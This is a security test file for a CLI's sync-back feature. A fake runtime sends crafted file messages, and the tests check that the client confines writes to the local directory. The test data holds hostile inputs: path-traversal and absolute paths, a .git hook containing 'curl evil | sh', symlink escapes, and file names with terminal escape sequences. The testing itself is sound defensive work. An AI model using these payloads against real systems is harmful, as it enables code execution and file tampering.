/**
 * Hostile sync-back (SECURITY.md 10–18): a fake runtime sends crafted file messages to a real
 * `catty connect` running in-process; nothing may land outside the local directory, the
 * user's edits survive, and the terminal keeps working.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FILE_CHUNK_BYTES, DEFAULT_MAX_SYNC_FILE_BYTES, type RuntimeMessage } from '../../session-runtime/protocol.js';
import { FakeApi, loginTo } from '../helpers/cli-fake-api.js';
import { FakeRuntime, type FakeClient } from '../helpers/fake-runtime.js';
import { startCli, tempDir, waitUntil } from '../helpers/cli.js';

const LABEL = 'hostile-otter-0001';
const sha = (b: Buffer | string) => crypto.createHash('sha256').update(b).digest('hex');
const write = (rel: string, content: string, executable = false): RuntimeMessage => ({
  type: 'file_change',
  path: rel,
  action: 'write',
  executable,
  size: Buffer.byteLength(content),
  sha256: sha(content),
  content: Buffer.from(content).toString('base64'),
});
const del = (rel: string): RuntimeMessage => ({ type: 'file_change', path: rel, action: 'delete' });

let api: FakeApi;
let runtime: FakeRuntime;
let script: (client: FakeClient) => Promise<void>;
let expectSync = true;

beforeAll(async () => {
  runtime = await FakeRuntime.start({
    onConnect: (client) => {
      client.hello(0);
      void (async () => {
        if (expectSync) await waitUntil(() => client.control.some((m) => m.type === 'sync_back' && m.enabled), 10_000, 'sync_back');
        else await new Promise((r) => setTimeout(r, 200));
        await script(client);
      })().catch(() => client.close(1011, 'script failed'));
    },
  });
  api = await FakeApi.start({ connectUrl: runtime.url, connectToken: runtime.token });
  api.addSession({ label: LABEL });
});
afterAll(async () => {
  await runtime.close();
  await api.close();
});

interface Setup {
  home: string;
  local: string;
  outside: string;
}

/** A home with a session record pointing at a fresh local dir, and a base manifest. */
function setup(base: Record<string, string> = {}, files: Record<string, string> = {}): Setup {
  const root = tempDir('sync');
  const home = path.join(root, 'home');
  const local = path.join(root, 'project');
  const outside = path.join(root, 'outside');
  fs.mkdirSync(local);
  fs.mkdirSync(outside);
  fs.mkdirSync(path.join(home, 'sessions'), { recursive: true, mode: 0o700 });
  fs.writeFileSync(path.join(home, 'sessions', `${LABEL}.json`), JSON.stringify({ label: LABEL, id: 'id-1', apiUrl: api.url, localDir: local, createdAt: new Date().toISOString() }));
  const manifest = Object.fromEntries(Object.entries(base).map(([rel, content]) => [rel, { sha256: sha(content), executable: false }]));
  fs.writeFileSync(path.join(home, 'sessions', `${LABEL}.manifest.json`), JSON.stringify({ version: 1, files: manifest }));
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(local, rel)), { recursive: true });
    fs.writeFileSync(path.join(local, rel), content);
  }
  return { home, local, outside };
}

async function startConnect(s: Setup, messages: RuntimeMessage[] | ((client: FakeClient) => Promise<void>), extraArgs: string[] = []) {
  await loginTo(s.home, api);
  script = async (client) => {
    if (typeof messages === 'function') await messages(client);
    else for (const m of messages) client.send(m);
    if (client.ws.readyState === 1) client.exit(0);
  };
  const run = startCli(['connect', LABEL, ...extraArgs], { home: s.home, cwd: s.outside, env: { CATTY_API_URL: api.url, CATTY_RECONNECT_BASE_MS: '10' } });
  const done = run.code.then((code) => ({ code, stderr: run.stderr.text, stdout: run.stdout.text }));
  return { run, done };
}

async function connectWith(s: Setup, messages: RuntimeMessage[] | ((client: FakeClient) => Promise<void>), extraArgs: string[] = []) {
  return (await startConnect(s, messages, extraArgs)).done;
}

function listAll(dir: string): string[] {
  return fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort();
}

describe('sync-back applies good changes', () => {
  it('writes new files (creating parents), updates unchanged ones, deletes unchanged ones, and records the base', async () => {
    const s = setup({ 'keep.txt': 'v1', 'gone.txt': 'bye' }, { 'keep.txt': 'v1', 'gone.txt': 'bye' });
    const result = await connectWith(s, [write('new/dir/file.ts', 'hello'), write('keep.txt', 'v2'), write('tool.sh', '#!/bin/sh', true), del('gone.txt')]);
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.local, 'new/dir/file.ts'), 'utf8')).toBe('hello');
    expect(fs.readFileSync(path.join(s.local, 'keep.txt'), 'utf8')).toBe('v2');
    expect(fs.existsSync(path.join(s.local, 'gone.txt'))).toBe(false);
    expect(fs.statSync(path.join(s.local, 'tool.sh')).mode & 0o7777).toBe(0o755);
    expect(result.stderr).toContain('sync-back: 3 written, 1 deleted, 0 conflicts, 0 refused');
    const manifest = JSON.parse(fs.readFileSync(path.join(s.home, 'sessions', `${LABEL}.manifest.json`), 'utf8')) as { files: Record<string, { sha256: string }> };
    expect(manifest.files['keep.txt']?.sha256).toBe(sha('v2'));
    expect(manifest.files['gone.txt']).toBeUndefined();
    expect(fs.readFileSync(path.join(s.home, 'logs', `${LABEL}.log`), 'utf8')).toContain('wrote new/dir/file.ts');
  });

  it('reassembles a chunked file and verifies it', async () => {
    const s = setup();
    const content = crypto.randomBytes(FILE_CHUNK_BYTES * 2 + 1234);
    const chunks = Math.ceil(content.length / FILE_CHUNK_BYTES);
    const result = await connectWith(s, async (client) => {
      client.send({ type: 'file_change', path: 'big.bin', action: 'write', executable: false, size: content.length, sha256: sha(content), chunks, transfer: 7 });
      for (let i = 0; i < chunks; i++) client.send({ type: 'file_chunk', transfer: 7, index: i, data: content.subarray(i * FILE_CHUNK_BYTES, (i + 1) * FILE_CHUNK_BYTES).toString('base64') });
    });
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.local, 'big.bin')).equals(content)).toBe(true);
  });

  it('drops a transfer cut by a reconnect and takes the resent file', async () => {
    const s = setup();
    const content = crypto.randomBytes(FILE_CHUNK_BYTES * 2 + 10);
    const chunk = (i: number) => content.subarray(i * FILE_CHUNK_BYTES, (i + 1) * FILE_CHUNK_BYTES).toString('base64');
    const announce = (transfer: number): RuntimeMessage => ({ type: 'file_change', path: 'big.bin', action: 'write', executable: false, size: content.length, sha256: sha(content), chunks: 3, transfer });
    let connection = 0;
    const result = await connectWith(s, async (client) => {
      if (++connection === 1) {
        client.send(announce(1));
        client.send({ type: 'file_chunk', transfer: 1, index: 0, data: chunk(0) });
        await client.flush();
        client.cut();
        return;
      }
      client.send(announce(2));
      for (let i = 0; i < 3; i++) client.send({ type: 'file_chunk', transfer: 2, index: i, data: chunk(i) });
    });
    expect(result.code).toBe(0);
    expect(connection).toBe(2);
    expect(fs.readFileSync(path.join(s.local, 'big.bin')).equals(content)).toBe(true);
    expect(result.stderr).toContain('1 written, 0 deleted, 0 conflicts, 0 refused');
    expect(listAll(s.local)).toEqual(['big.bin']);
  });

  it('does nothing with --no-sync-back', async () => {
    const s = setup();
    expectSync = false;
    const result = await connectWith(s, [write('x.txt', 'x')], ['--no-sync-back']).finally(() => (expectSync = true));
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual([]);
    expect(runtime.clients.at(-1)?.control.some((m) => m.type === 'sync_back')).toBe(false);
  });
});

describe('SECURITY.md 10: bad paths are refused', () => {
  it.each(['../x', '../../outside/x', '/etc/x', '////tmp/x', 'C:x', 'C:\\x', '..\\..\\x', 'a/\u0000b', 'a/./b', 'a//b', `${'d/'.repeat(70)}x`, `${'x'.repeat(300)}/y`])(
    'refuses %j',
    async (rel) => {
      const s = setup();
      const result = await connectWith(s, [write(rel, 'pwned'), write('ok.txt', 'fine')]);
      expect(result.code).toBe(0);
      expect(listAll(s.local)).toEqual(['ok.txt']);
      expect(listAll(s.outside)).toEqual([]);
      expect(result.stderr).toMatch(/1 refused/);
    },
  );

  it('ignores frames that are not valid messages (empty or over-long path)', async () => {
    const s = setup();
    const result = await connectWith(s, async (client) => {
      client.ws.send(JSON.stringify({ ...write('x', 'x'), path: '' }));
      client.ws.send(JSON.stringify({ ...write('x', 'x'), path: 'a'.repeat(5000) }));
      client.send(write('ok.txt', 'fine'));
    });
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual(['ok.txt']);
  });
});

describe('SECURITY.md 11: .git is never written', () => {
  it.each(['.git/hooks/pre-commit', '.GIT/config', 'sub/.Git/hooks/post-checkout', '.git'])('refuses %j', async (rel) => {
    const s = setup();
    const result = await connectWith(s, [write(rel, '#!/bin/sh\ncurl evil | sh', true), del('.git/config')]);
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual([]);
    expect(result.stderr).toContain('.git is never written');
  });
});

describe('SECURITY.md 12: links are never followed', () => {
  it('refuses a write through a symlinked parent directory', async () => {
    const s = setup();
    fs.symlinkSync(s.outside, path.join(s.local, 'link'));
    const result = await connectWith(s, [write('link/evil.txt', 'pwned'), write('link/deeper/evil.txt', 'pwned')]);
    expect(result.code).toBe(0);
    expect(listAll(s.outside)).toEqual([]);
    expect(result.stderr).toContain('is a symlink');
  });

  it('refuses to write or delete through a symlinked target file', async () => {
    const s = setup({ 'victim.txt': 'x' });
    fs.writeFileSync(path.join(s.outside, 'victim.txt'), 'precious');
    fs.symlinkSync(path.join(s.outside, 'victim.txt'), path.join(s.local, 'victim.txt'));
    const result = await connectWith(s, [write('victim.txt', 'pwned'), del('victim.txt')]);
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.outside, 'victim.txt'), 'utf8')).toBe('precious');
    expect(fs.lstatSync(path.join(s.local, 'victim.txt')).isSymbolicLink()).toBe(true);
    expect(result.stderr).toContain('2 refused');
  });

  it('refuses a symlink squatting on the conflict-copy name', async () => {
    const s = setup({ 'a.txt': 'base' }, { 'a.txt': 'edited' });
    fs.symlinkSync(path.join(s.outside, 'target'), path.join(s.local, `a.catty-conflict-${LABEL}.txt`));
    await connectWith(s, [write('a.txt', 'remote')]);
    expect(listAll(s.outside)).toEqual([]);
    expect(fs.readFileSync(path.join(s.local, 'a.txt'), 'utf8')).toBe('edited');
  });
});

describe('SECURITY.md 13–14: the conflict rule', () => {
  it('keeps a locally edited file and writes the remote one beside it', async () => {
    const s = setup({ 'src/app.ts': 'base', Makefile: 'base' }, { 'src/app.ts': 'my edit', Makefile: 'mine', '.env': 'LOCAL=1' });
    const result = await connectWith(s, [write('src/app.ts', 'remote'), write('Makefile', 'remote make'), write('.env', 'REMOTE=1')]);
    expect(result.code).toBe(0);
    expect(fs.readFileSync(path.join(s.local, 'src/app.ts'), 'utf8')).toBe('my edit');
    expect(fs.readFileSync(path.join(s.local, `src/app.catty-conflict-${LABEL}.ts`), 'utf8')).toBe('remote');
    expect(fs.readFileSync(path.join(s.local, `Makefile.catty-conflict-${LABEL}`), 'utf8')).toBe('remote make');
    // Never uploaded (ignored .env) yet present locally: also a conflict.
    expect(fs.readFileSync(path.join(s.local, '.env'), 'utf8')).toBe('LOCAL=1');
    expect(fs.readFileSync(path.join(s.local, `.env.catty-conflict-${LABEL}`), 'utf8')).toBe('REMOTE=1');
    expect(result.stderr).toContain('3 conflicts');
    expect(result.stderr).toContain('src/app.ts');
  });

  it('does not delete a locally changed file and reports it', async () => {
    const s = setup({ 'notes.md': 'base' }, { 'notes.md': 'my notes' });
    const result = await connectWith(s, [del('notes.md')]);
    expect(fs.readFileSync(path.join(s.local, 'notes.md'), 'utf8')).toBe('my notes');
    expect(result.stderr).toContain('deleted in the session but changed here (kept)');
    expect(result.stderr).toContain('notes.md');
  });
});

describe('SECURITY.md 15: only the exec bit', () => {
  it('never sets setuid/setgid/sticky and replaces a privileged local file with a plain one', async () => {
    const s = setup({ 'bin/tool': 'old' }, { 'bin/tool': 'old' });
    fs.chmodSync(path.join(s.local, 'bin/tool'), 0o6755);
    await connectWith(s, [write('bin/tool', 'new', true), write('plain', 'p', false)]);
    expect(fs.statSync(path.join(s.local, 'bin/tool')).mode & 0o7777).toBe(0o755);
    expect(fs.statSync(path.join(s.local, 'plain')).mode & 0o7777).toBe(0o644);
  });
});

describe('SECURITY.md 16: size caps and floods', () => {
  it('refuses a file over the sync cap and a chunked file whose content does not match', async () => {
    const s = setup({ 'x.bin': 'old' }, { 'x.bin': 'old' });
    const result = await connectWith(s, async (client) => {
      client.send({ type: 'file_change', path: 'huge.bin', action: 'write', executable: false, size: DEFAULT_MAX_SYNC_FILE_BYTES + 1, sha256: sha('x'), chunks: 51, transfer: 1 });
      client.send({ type: 'file_chunk', transfer: 1, index: 0, data: Buffer.alloc(10).toString('base64') });
      client.send({ type: 'file_change', path: 'x.bin', action: 'write', executable: false, size: 3, sha256: sha('abc'), chunks: 1, transfer: 2 });
      client.send({ type: 'file_chunk', transfer: 2, index: 0, data: Buffer.from('xyz').toString('base64') });
      client.send({ type: 'file_skipped', path: 'video.mp4', size: 9e9, reason: 'too_large' });
    });
    expect(result.code).toBe(0);
    expect(fs.existsSync(path.join(s.local, 'huge.bin'))).toBe(false);
    expect(fs.readFileSync(path.join(s.local, 'x.bin'), 'utf8')).toBe('old');
    expect(listAll(s.local)).toEqual(['x.bin']); // no temp files left behind
    expect(result.stderr).toContain('larger than the sync cap');
    expect(result.stderr).toContain('does not match');
    expect(result.stderr).toContain('video.mp4: too large');
  });

  it('a flood of 10,000 events stays bounded and keystrokes keep flowing', async () => {
    const s = setup();
    let keystrokeSeenAt = 0;
    let floodSentAt = 0;
    const { run, done } = await startConnect(s, async (client) => {
      for (let i = 0; i < 10_000; i++) client.send(write(i % 2 === 0 ? 'hot.txt' : `flood/f${Math.floor(i / 2) % 500}.txt`, `v${i}`));
      floodSentAt = Date.now();
      await waitUntil(() => client.inputText.includes('ping'), 20_000, 'keystroke');
      keystrokeSeenAt = Date.now();
    });
    // Type while the flood is being applied.
    await waitUntil(() => floodSentAt > 0, 20_000, 'flood sent');
    run.stdin.write('ping');
    const result = await done;
    expect(result.code).toBe(0);
    expect(keystrokeSeenAt - floodSentAt).toBeLessThan(5_000);
    expect(fs.readFileSync(path.join(s.local, 'hot.txt'), 'utf8')).toBe('v9998');
    expect(fs.readdirSync(path.join(s.local, 'flood'))).toHaveLength(500);
  }, 120_000);
});

describe('SECURITY.md 17: names are escaped when printed', () => {
  it('prints a hostile name without raw control characters', async () => {
    const s = setup({ 'x\u001b[2Jy.txt': 'base' }, {});
    const result = await connectWith(s, [write('evil\u001b]0;pwned\u0007.txt', 'x'), del('x\u001b[2Jy.txt'), { type: 'file_skipped', path: 'a\u001b[31mred', size: 1, reason: 'unreadable' }]);
    expect(result.stderr).not.toContain('\u001b');
    expect(result.stderr).toContain('\\x1b');
    expect(fs.readFileSync(path.join(s.home, 'logs', `${LABEL}.log`), 'utf8')).not.toContain('\u001b');
  });
});

